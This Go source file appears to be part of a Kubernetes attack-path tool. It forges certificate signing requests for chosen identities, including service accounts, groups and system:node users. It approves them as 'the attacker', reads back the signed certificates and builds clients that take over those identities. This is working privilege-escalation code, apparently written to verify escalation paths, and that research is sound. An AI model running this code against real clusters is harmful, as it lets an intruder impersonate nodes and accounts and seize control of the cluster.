package attackpaths

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"strings"

	authorizationv1 "k8s.io/api/authorization/v1"
	certificatesv1 "k8s.io/api/certificates/v1"

	"github.com/node-authorizer/node-authorizer/attackpaths"
)

// The signers of client certificates.
const (
	clientSigner  = "kubernetes.io/kube-apiserver-client"
	kubeletSigner = "kubernetes.io/kube-apiserver-client-kubelet"
)

// certificateRequest is a request for a client certificate with its key.
type certificateRequest struct {
	name   string
	signer string
	key    []byte
	object map[string]any
}

// subjectOf is the subject of a certificate for an identity.
func subjectOf(h holding) pkix.Name {
	switch h.Kind {
	case attackpaths.ServiceAccount:
		return pkix.Name{CommonName: accountUser(h), Organization: []string{
			"system:serviceaccounts", "system:serviceaccounts:" + h.Namespace,
		}}
	case attackpaths.Group:
		return pkix.Name{CommonName: "attacker", Organization: []string{h.Name}}
	}
	if strings.HasPrefix(h.Name, "system:node:") {
		return pkix.Name{CommonName: h.Name, Organization: []string{"system:nodes"}}
	}
	return pkix.Name{CommonName: h.Name}
}

func newCertificateRequest(h holding, name, signer string) (*certificateRequest, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	request, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: subjectOf(h)}, key)
	if err != nil {
		return nil, err
	}
	encoded, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		return nil, err
	}
	return &certificateRequest{
		name: name, signer: signer, key: pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: encoded}),
		object: map[string]any{"metadata": map[string]any{"name": name}, "spec": map[string]any{
			"signerName": signer, "usages": []string{"digital signature", "client auth"},
			"request": pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: request}),
		}},
	}, nil
}

// approveCertificate gets a certificate of an identity, from each signer and with each name of
// a request that the rights name.
func (e *executor) approveCertificate(ctx context.Context, s step) error {
	signers := []string{clientSigner}
	if strings.HasPrefix(s.To.Name, "system:node:") {
		signers = []string{kubeletSigner, clientSigner}
	}
	actors := e.acting(s)
	last := error(errNoActor)
	for _, signer := range signers {
		for _, name := range e.namesOf(ctx, actors, "", "certificates.k8s.io", "certificatesigningrequests") {
			if last = e.certificate(ctx, actors, s.To, name, signer); last == nil {
				return nil
			}
		}
	}
	return last
}

// certificate makes a request as one identity after the other, has it approved and reads the
// certificate.
func (e *executor) certificate(ctx context.Context, actors []*actor, h holding, name, signer string) error {
	request, err := newCertificateRequest(h, name, signer)
	if err != nil {
		return err
	}
	last := error(errNoActor)
	e.forget(ctx, signingRequests.at("", name))
	for _, creator := range actors {
		created := creator.post(ctx, signingRequests.in(""), request.object)
		if last = created.failure(); last != nil {
			continue
		}
		approval, _ := first(actors, func(a *actor) answer { return approve(ctx, a, name, created, false) })
		last = approval.failure()
		if approval.refused() && signer == kubeletSigner && e.isApproved(ctx, created) {
			last, approval = nil, created
		}
		if last == nil {
			return e.useCertificate(ctx, actors, h, request, approval)
		}
		if err := e.admin.delete(ctx, signingRequests.at("", name), nil).failure(); err != nil {
			return err
		}
	}
	return last
}

// isApproved reports whether kube-controller-manager approves a request for the certificate of a node by itself: it asks for
// the right of the request's author. Authors without system:authenticated may not ask about themselves.
func (e *executor) isApproved(ctx context.Context, created answer) bool {
	var request certificatesv1.CertificateSigningRequest
	if created.into(&request) != nil {
		return false
	}
	review := authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
		User: request.Spec.Username, Groups: request.Spec.Groups,
		ResourceAttributes: &authorizationv1.ResourceAttributes{
			Verb: "create", Group: "certificates.k8s.io", Resource: "certificatesigningrequests", Subresource: "nodeclient",
		},
	}}
	err := e.admin.post(ctx, "/apis/authorization.k8s.io/v1/subjectaccessreviews", review).into(&review)
	return err == nil && review.Status.Allowed
}

// approve approves a request as it was made.
func approve(ctx context.Context, a *actor, name string, created answer, try bool) answer {
	var whole map[string]any
	if err := json.Unmarshal(created.body, &whole); err != nil {
		return answer{request: "approve " + name, err: err}
	}
	status := map[string]any{"conditions": []any{map[string]any{
		"type": "Approved", "status": "True", "reason": "Attack", "message": "approved by the attacker",
	}}}
	whole["status"] = status
	return change(ctx, a, signingRequests.at("", name, "approval"), whole, map[string]any{"status": status}, try)
}

// useCertificate reads the certificate when it is signed, and takes the identity.
func (e *executor) useCertificate(ctx context.Context, actors []*actor, h holding, request *certificateRequest, known answer) error {
	var certificate []byte
	err := until(ctx, "the request for a certificate is signed", func(ctx context.Context) error {
		read, _ := first(actors, func(a *actor) answer { return readRequest(ctx, a, request.name, known) })
		if read.refused() {
			certificate = nil
			return nil
		}
		var signed certificatesv1.CertificateSigningRequest
		if err := read.into(&signed); err != nil {
			return err
		}
		if certificate = signed.Status.Certificate; len(certificate) == 0 {
			return fmt.Errorf("it is not")
		}
		return nil
	})
	if err != nil {
		return err
	}
	if certificate == nil {
		return fmt.Errorf("no identity may read the request %s", request.name)
	}
	config, err := forCertificate(e.AdminConfig(), certificate, request.key)
	if err != nil {
		return err
	}
	c, err := newClient(config)
	if err != nil {
		return err
	}
	return e.own(ctx, &actor{holding: h, client: c})
}

// readRequest reads a request that the executor made, by any right that allows it.
func readRequest(ctx context.Context, a *actor, name string, known answer) answer {
	var whole map[string]any
	if err := json.Unmarshal(known.body, &whole); err != nil {
		return answer{request: "read " + name, err: err}
	}
	read := readObject(ctx, a, signingRequests, "", name)
	for _, try := range []func() answer{
		func() answer { return a.put(ctx, dry(signingRequests.at("", name)), unversioned(whole)) },
		func() answer { return a.get(ctx, signingRequests.at("", name, "approval")) },
		func() answer { return a.get(ctx, signingRequests.at("", name, "status")) },
		func() answer {
			return a.patch(ctx, dry(signingRequests.at("", name, "status")), mergePatch, map[string]any{})
		},
		func() answer {
			return a.patch(ctx, dry(signingRequests.at("", name, "approval")), mergePatch, map[string]any{})
		},
		func() answer { return a.put(ctx, dry(signingRequests.at("", name, "approval")), unversioned(whole)) },
	} {
		if !read.refused() {
			return read
		}
		read = try()
	}
	return read
}

// signCertificate writes a certificate into the status of a request. That the API server trusts
// it takes the key of its authority, so that this is the end.
func (e *executor) signCertificate(ctx context.Context, s step) error {
	actors := e.acting(s)
	signer := clientSigner
	if strings.HasPrefix(s.To.Name, "system:node:") {
		signer = kubeletSigner
	}
	request, err := newCertificateRequest(s.To, fmt.Sprint("made-", e.counter.Add(1)), signer)
	if err != nil {
		return err
	}
	created, _ := first(actors, func(a *actor) answer { return a.post(ctx, signingRequests.in(""), request.object) })
	if err := created.failure(); err != nil {
		return err
	}
	signed, _ := first(actors, func(a *actor) answer { return sign(ctx, a, request.name, created) })
	return signed.failure()
}

// sign changes the status of a request by an identity that may sign for the signer.
func sign(ctx context.Context, a *actor, name string, created answer) answer {
	var whole map[string]any
	if err := json.Unmarshal(created.body, &whole); err != nil {
		return answer{request: http.MethodPut, err: err}
	}
	status := map[string]any{"conditions": []any{map[string]any{
		"type": "Failed", "status": "True", "reason": "Attack", "message": "written by the attacker",
	}}}
	whole["status"] = status
	return replace(ctx, a, signingRequests.at("", name, "status"), whole, map[string]any{"status": status})
}
